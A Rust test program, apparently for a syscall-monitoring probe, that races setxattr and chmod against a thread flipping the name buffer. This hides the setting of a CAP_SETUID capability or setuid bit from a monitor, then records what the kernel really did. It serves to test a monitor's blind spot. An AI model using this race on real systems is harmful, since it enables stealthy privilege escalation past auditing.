//! Issue 15 attack on the attribute calls: a thread rewrites a name while the call runs, so a
//! name read from the caller's memory after the kernel copied it names a decoy.
//!
//! - `attack_attr_race xattr FILE NAME DECOY N`: N times, sets the extended attribute named
//!   by a shared buffer that another thread flips between NAME (`security.capability`) and
//!   DECOY (a plain attribute's name of the same length) on FILE, with a `vfs_cap_data` value
//!   (revision 2, effective, CAP_SETUID permitted: what `setcap cap_setuid=ep` sets). After
//!   each call the kernel's truth is read back (`listxattr`: which name it set) and every
//!   attribute is removed again (removexattr, which the probe does not see). Prints `truth I
//!   name|decoy|torn|failed` per call.
//! - `attack_attr_race chmod TARGET DECOY N`: N times, `chmod(buf, 04755)` with the buffer
//!   flipped between TARGET and DECOY (paths of the same length, both existing files); the
//!   truth is which of the two got the setuid bit (`stat`), and both are set back to 0644
//!   (by fchmod: records of their own, mode 644). Prints `truth I target|decoy|torn|failed`.
//!
//! The flip is one `memcpy` of equal lengths, so a torn copy can name a third attribute or
//! file. At least N calls are made, more while the flip has not yet shown both ways (see
//! [`more`]). The last line counts each outcome.
use std::ffi::{CStr, CString};
use std::os::unix::fs::PermissionsExt;
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, Ordering};

/// `struct vfs_cap_data` revision 2: magic_etc (VFS_CAP_REVISION_2 | VFS_CAP_FLAGS_EFFECTIVE),
/// permitted CAP_SETUID (bit 7), inheritable 0, and the upper halves 0.
fn cap_setuid_ep() -> Vec<u8> {
    [0x0200_0001u32, 1 << 7, 0, 0, 0]
        .iter()
        .flat_map(|w| w.to_le_bytes())
        .collect()
}

/// Pins the calling thread to one CPU (where there are two or more): the caller on the first,
/// the flipper on the last, so the two run at the same time instead of taking turns on one
/// CPU (where 300 calls fit in one time slice and the name never changes during a call).
fn pin(last: bool) {
    // SAFETY: a zeroed cpu_set_t is an empty set; the calls only read and write it.
    unsafe {
        let mut set: libc::cpu_set_t = std::mem::zeroed();
        if libc::sched_getaffinity(0, std::mem::size_of_val(&set), &mut set) != 0 {
            return;
        }
        let cpus: Vec<usize> = (0..libc::CPU_SETSIZE as usize)
            .filter(|&c| libc::CPU_ISSET(c, &set))
            .collect();
        if cpus.len() < 2 {
            return;
        }
        let cpu = if last { cpus[cpus.len() - 1] } else { cpus[0] };
        libc::CPU_ZERO(&mut set);
        libc::CPU_SET(cpu, &mut set);
        libc::sched_setaffinity(0, std::mem::size_of_val(&set), &set);
    }
}

/// A NUL-ended buffer that a thread flips between `a` and `b` until the returned flag is set;
/// its address, and the thread (flipping when this returns).
fn flipped(a: &str, b: &str) -> (usize, Arc<AtomicBool>, std::thread::JoinHandle<()>) {
    assert_eq!(a.len(), b.len(), "the two names must have the same length");
    let len = a.len();
    let buf: &'static mut [u8] = Box::leak(vec![0u8; len + 1].into_boxed_slice());
    buf[..len].copy_from_slice(a.as_bytes());
    let addr = buf.as_mut_ptr() as usize;
    let stop = Arc::new(AtomicBool::new(false));
    let started = Arc::new(AtomicBool::new(false));
    let flipper = {
        let (stop, started) = (stop.clone(), started.clone());
        let (a, b) = (a.as_bytes().to_vec(), b.as_bytes().to_vec());
        std::thread::spawn(move || {
            pin(true);
            started.store(true, Ordering::Relaxed);
            let p = addr as *mut u8;
            while !stop.load(Ordering::Relaxed) {
                // SAFETY: the buffer lives for the whole program; a torn name is what we want.
                unsafe {
                    std::ptr::copy_nonoverlapping(b.as_ptr(), p, len);
                    std::ptr::copy_nonoverlapping(a.as_ptr(), p, len);
                }
            }
        })
    };
    pin(false);
    while !started.load(Ordering::Relaxed) {
        std::thread::yield_now();
    }
    (addr, stop, flipper)
}

/// How long the attack goes on past its N calls while the flip has not yet shown in both
/// directions.
const MORE_FOR: std::time::Duration = std::time::Duration::from_secs(60);

/// Whether to make another call: until N are made, and then (up to 20 N, or `deadline`)
/// until at least N/10 calls really used the real name and N/10 did not: the two threads
/// can take turns instead of running at once (a loaded host, a guest whose CPUs are the
/// host's threads), and then the name never changes during a call.
fn more(truths: &[&str], n: usize, real: &str, deadline: std::time::Instant) -> bool {
    if truths.len() < n {
        return true;
    }
    let hit = truths.iter().filter(|t| **t == real).count();
    let missed = truths.len() - hit;
    truths.len() < 20 * n
        && (hit < n / 10 || missed < n / 10)
        && std::time::Instant::now() < deadline
}

/// The names of the extended attributes `path` has.
fn xattrs(path: &CStr) -> Vec<String> {
    let mut buf = vec![0u8; 4096];
    // SAFETY: a valid C string and a buffer of the length given.
    let n = unsafe { libc::listxattr(path.as_ptr(), buf.as_mut_ptr().cast(), buf.len()) };
    assert!(n >= 0, "listxattr: {}", std::io::Error::last_os_error());
    buf[..n as usize]
        .split(|&c| c == 0)
        .filter(|s| !s.is_empty())
        .map(|s| String::from_utf8_lossy(s).into_owned())
        .collect()
}

fn xattr_race(file: &str, name: &str, decoy: &str, n: usize) -> Vec<&'static str> {
    let path = CString::new(file).unwrap();
    for old in xattrs(&path) {
        let old = CString::new(old).unwrap();
        // SAFETY: valid C strings.
        unsafe { libc::removexattr(path.as_ptr(), old.as_ptr()) };
    }
    let value = cap_setuid_ep();
    let (addr, stop, flipper) = flipped(name, decoy);
    let mut truths = Vec::with_capacity(n);
    let deadline = std::time::Instant::now() + MORE_FOR;
    while more(&truths, n, "name", deadline) {
        // SAFETY: the path and the flipped buffer are NUL-ended and outlive the call.
        let r = unsafe {
            libc::setxattr(
                path.as_ptr(),
                addr as *const libc::c_char,
                value.as_ptr().cast(),
                value.len(),
                0,
            )
        };
        let set = xattrs(&path);
        truths.push(if r != 0 {
            "failed"
        } else if set.iter().any(|s| s == name) {
            "name"
        } else if set.iter().any(|s| s == decoy) {
            "decoy"
        } else {
            "torn"
        });
        for s in set {
            let s = CString::new(s).unwrap();
            // SAFETY: valid C strings.
            unsafe { libc::removexattr(path.as_ptr(), s.as_ptr()) };
        }
    }
    stop.store(true, Ordering::Relaxed);
    flipper.join().unwrap();
    truths
}

fn chmod_race(target: &str, decoy: &str, n: usize) -> Vec<&'static str> {
    let setuid =
        |p: &str| std::fs::metadata(p).is_ok_and(|m| m.permissions().mode() & libc::S_ISUID != 0);
    let reset = |p: &str| {
        let f = std::fs::File::open(p).unwrap();
        f.set_permissions(std::fs::Permissions::from_mode(0o644))
            .unwrap();
    };
    let (addr, stop, flipper) = flipped(target, decoy);
    let mut truths = Vec::with_capacity(n);
    let deadline = std::time::Instant::now() + MORE_FOR;
    while more(&truths, n, "target", deadline) {
        // SAFETY: the flipped buffer is NUL-ended and outlives the call.
        let r = unsafe { libc::chmod(addr as *const libc::c_char, 0o4755) };
        truths.push(if r != 0 {
            "failed"
        } else if setuid(target) {
            "target"
        } else if setuid(decoy) {
            "decoy"
        } else {
            "torn"
        });
        for p in [target, decoy] {
            if setuid(p) {
                reset(p);
            }
        }
    }
    stop.store(true, Ordering::Relaxed);
    flipper.join().unwrap();
    truths
}

fn main() {
    let args: Vec<String> = std::env::args().collect();
    let truths = match args.get(1).map(String::as_str) {
        Some("xattr") if args.len() == 6 => {
            xattr_race(&args[2], &args[3], &args[4], args[5].parse().expect("N"))
        }
        Some("chmod") if args.len() == 5 => {
            chmod_race(&args[2], &args[3], args[4].parse().expect("N"))
        }
        _ => panic!(
            "usage: attack_attr_race xattr FILE NAME DECOY N | attack_attr_race chmod TARGET DECOY N"
        ),
    };
    for (i, t) in truths.iter().enumerate() {
        println!("truth {i} {t}");
    }
    let count = |what: &str| truths.iter().filter(|t| **t == what).count();
    println!(
        "calls: {}; {}: {}; decoy: {}; torn: {}; failed: {}",
        truths.len(),
        if args[1] == "xattr" { "name" } else { "target" },
        count(if args[1] == "xattr" { "name" } else { "target" }),
        count("decoy"),
        count("torn"),
        count("failed")
    );
}
